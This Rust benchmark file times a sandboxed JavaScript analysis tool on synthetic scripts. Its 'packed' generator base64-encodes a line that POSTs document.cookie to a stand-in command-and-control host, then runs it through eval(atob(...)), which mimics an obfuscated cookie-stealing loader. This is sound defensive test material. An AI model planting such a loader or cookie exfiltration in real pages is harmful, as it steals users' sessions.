//! Script analysis benchmark: `cargo bench -p airlock-cli --bench js`.
//!
//! Whole-process wall time and peak resident memory of `airlock js --env browser FILE` (read,
//! decode, start QuickJS, emulate a page, run the script, fire the page's events, extract the
//! indicators) for scripts of 100 KB, 1 MB and 10 MB, with a warm compiled-code cache. Two
//! shapes of script:
//! - `code`: dense code (functions, objects, DOM and network calls), the parser's worst case;
//! - `packed`: a small loader that decodes a large base64 string and evals it, the common shape
//!   of obfuscated scripts.

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs, unsafe_code)]

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// One function of the `code` shape.
fn code_block(i: usize) -> String {
    format!(
        "function helper_{i}(a, b) {{\n  var out = [];\n  for (var k = 0; k < 3; k++) {{ out.push(a + '-' + b + '-' + k); }}\n  \
         var cfg = {{ id: {i}, name: 'item{i}', tags: ['x', 'y', 'z'], nested: {{ on: true, n: {i} * 2 }} }};\n  \
         if (cfg.nested.on && out.length > 2) {{ document.title = cfg.name; }}\n  return out.join(',') + JSON.stringify(cfg);\n}}\n"
    )
}

fn code_script(size: usize) -> String {
    let mut s = String::with_capacity(size + 4096);
    let mut i = 0;
    while s.len() < size {
        s.push_str(&code_block(i));
        i += 1;
    }
    s.push_str(
        "var r = helper_1('a', 'b');\nnew Image().src = 'https://stats.example/p?r=' + r.length;\n",
    );
    s
}

fn packed_script(size: usize) -> String {
    // The payload: code that calls back home; padded with a long comment to the size.
    let mut payload = String::from(
        "fetch('https://c2.example/collect', { method: 'POST', body: document.cookie });\n/*",
    );
    let target = size * 3 / 4;
    while payload.len() < target {
        payload.push_str("lorem ipsum dolor sit amet ");
    }
    payload.push_str("*/\n");
    let b64 = base64(payload.as_bytes());
    format!("var p = '{b64}';\neval(atob(p));\n")
}

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for (j, shift) in [18, 12, 6, 0].into_iter().enumerate() {
            if j <= c.len() {
                out.push(T[(n >> shift) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// One whole-process run: wall time and the child's peak resident memory (KiB).
fn run(file: &std::path::Path) -> (Duration, i64) {
    let t = Instant::now();
    let child = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["js", "--env", "browser", "--json", "--timeout", "60s"])
        .arg(file)
        .env_remove("RUST_BACKTRACE")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: a zeroed rusage is a valid out-parameter; `pid` is our own unwaited child (the
    // `Child` handle is not waited on afterwards).
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    let took = t.elapsed();
    assert_eq!(r, pid);
    assert!(
        libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
        "{status}"
    );
    drop(child);
    (took, usage.ru_maxrss)
}

fn main() {
    if !std::env::args().any(|a| a == "--bench") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // A cold compile must not count: the first run warms the cache.
    let warm = dir.path().join("warm.js");
    std::fs::write(&warm, "1").unwrap();
    run(&warm);
    println!(
        "`airlock js --env browser FILE`, whole process, warm cache (median of n runs; peak RSS):"
    );
    for (shape, make) in [
        ("code", code_script as fn(usize) -> String),
        ("packed", packed_script as fn(usize) -> String),
    ] {
        for (label, size, n) in [
            ("100 KB", 100_000, 30),
            ("1 MB", 1_000_000, 15),
            ("10 MB", 10_000_000, 5),
        ] {
            let file = dir.path().join(format!("{shape}-{size}.js"));
            let text = make(size);
            std::fs::write(&file, &text).unwrap();
            run(&file);
            let mut samples: Vec<(Duration, i64)> = (0..n).map(|_| run(&file)).collect();
            samples.sort();
            let (med, _) = samples[n / 2];
            let peak = samples.iter().map(|s| s.1).max().unwrap_or(0);
            println!(
                "  {shape:<6} {label:>6} ({:>5.2} MB): median {:>8.2} ms, min {:>8.2} ms, peak RSS {:>6.1} MB",
                text.len() as f64 / 1e6,
                med.as_secs_f64() * 1e3,
                samples[0].0.as_secs_f64() * 1e3,
                peak as f64 / 1024.0
            );
        }
    }
}
